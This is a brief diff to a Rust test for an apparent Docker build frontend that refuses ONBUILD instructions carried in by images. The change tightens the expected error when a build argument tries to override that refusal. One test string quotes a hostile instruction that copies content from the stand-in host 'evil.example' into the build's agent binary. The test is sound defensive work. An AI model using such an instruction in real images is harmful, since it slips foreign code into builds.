@@ -233,7 +233,11 @@ async fn instructions_that_an_image_brings_along_are_refused() {
         assert!(!told.contains('\u{1b}'), "{told:?}");
     }
     // A build argument is not the Dockerfile's word.
-    fail_with(build(&with("pin=off")).build_arg("ALIASFRONT_ONBUILD", "allow"), &["ONBUILD"]).await;
+    fail_with(
+        build(&with("pin=off")).build_arg("ALIASFRONT_ONBUILD", "allow"),
+        &["ALIASFRONT_ONBUILD=allow loosens onbuild=refuse"],
+    )
+    .await;
     for dockerfile in [with("allow=ghcr.io/org/* onbuild=allow"), DOCKERFILE.to_owned()] {
         let told = message(&succeed(build(&dockerfile)).await);
         let part = "with its ONBUILD instructions \"COPY --from=evil.example/x /x /build/agentd\"";
